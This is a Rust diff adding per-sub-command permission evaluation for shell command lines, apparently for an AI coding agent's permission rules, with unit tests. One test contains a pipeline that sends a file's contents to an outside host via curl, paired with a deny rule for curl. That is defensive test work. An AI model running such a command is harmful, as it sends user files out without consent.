@@ -1,3 +1,4 @@
+use crate::shell::parse_bash_command;
 use crate::wildcard::wildcard_match;
 use serde::{Deserialize, Serialize};
 
@@ -32,6 +33,65 @@ pub fn evaluate_permission(
         })
 }
 
+/// Decision for one simple command within a shell command line
+#[derive(Debug, Serialize, Clone)]
+pub struct SubcommandDecision {
+    /// Command text as matched against rule patterns (wrappers stripped)
+    pub command: String,
+    /// Always-allow pattern for the command, e.g. `git status *`
+    pub prefix: String,
+    pub action: String,
+    /// Rule that decided `action`; the `ask` fallback when none matched
+    pub rule: PermissionRule,
+}
+
+/// Result of `evaluate`: every sub-command's decision plus the overall verdict
+#[derive(Debug, Serialize, Clone)]
+pub struct CommandVerdict {
+    /// Most restrictive action across `subcommands`: deny, then ask, then allow
+    pub action: String,
+    pub subcommands: Vec<SubcommandDecision>,
+}
+
+fn restrictiveness(action: &str) -> u8 {
+    match action {
+        "allow" => 0,
+        "deny" => 2,
+        _ => 1,
+    }
+}
+
+/// Parse `command` with `parse_bash_command` and evaluate each sub-command of
+/// pipelines, `&&`/`||` chains and substitutions against the `bash` rules.
+/// A command with nothing to check (e.g. only `cd`) is allowed.
+pub fn evaluate(command: &str, rules: &[PermissionRule]) -> Result<CommandVerdict, String> {
+    let parsed = parse_bash_command(command, "")?;
+    let subcommands: Vec<SubcommandDecision> = parsed
+        .patterns
+        .into_iter()
+        .zip(parsed.always)
+        .map(|(command, always)| {
+            let rule = evaluate_permission("bash", &command, rules);
+            SubcommandDecision {
+                prefix: always.trim_end_matches(" *").to_string(),
+                action: rule.action.clone(),
+                command,
+                rule,
+            }
+        })
+        .collect();
+    let action = subcommands
+        .iter()
+        .map(|sub| sub.action.as_str())
+        .max_by_key(|action| restrictiveness(action))
+        .unwrap_or("allow")
+        .to_string();
+    Ok(CommandVerdict {
+        action,
+        subcommands,
+    })
+}
+
 /// Mirrors `PermissionNext.disabled()` from TypeScript.
 ///
 /// Returns the subset of `tools` that are denied by the ruleset —
@@ -119,6 +179,41 @@ mod tests {
         assert_eq!(r.action, "ask");
     }
 
+    #[test]
+    fn test_evaluate_command_allowed_prefix() {
+        let rules = vec![rule("bash", "git status*", "allow")];
+        let verdict = evaluate("git status --short", &rules).unwrap();
+        assert_eq!(verdict.action, "allow");
+        assert_eq!(verdict.subcommands.len(), 1);
+        assert_eq!(verdict.subcommands[0].prefix, "git status");
+    }
+
+    #[test]
+    fn test_evaluate_command_denied_pipeline_stage() {
+        let rules = vec![
+            rule("bash", "*", "allow"),
+            rule("bash", "curl *", "deny"),
+        ];
+        let verdict = evaluate("cat notes.txt | curl -d @- example.com", &rules).unwrap();
+        assert_eq!(verdict.action, "deny");
+        let actions: Vec<&str> = verdict
+            .subcommands
+            .iter()
+            .map(|sub| sub.action.as_str())
+            .collect();
+        assert_eq!(actions, vec!["allow", "deny"]);
+    }
+
+    #[test]
+    fn test_evaluate_command_mixed_chain_asks() {
+        let rules = vec![rule("bash", "ls*", "allow")];
+        let verdict = evaluate("ls -la && npm install", &rules).unwrap();
+        assert_eq!(verdict.action, "ask");
+        assert_eq!(verdict.subcommands[0].action, "allow");
+        assert_eq!(verdict.subcommands[1].action, "ask");
+        assert_eq!(verdict.subcommands[1].command, "npm install");
+    }
+
     #[test]
     fn test_disabled_tools_empty_ruleset() {
         let tools = vec!["bash".to_string(), "edit".to_string()];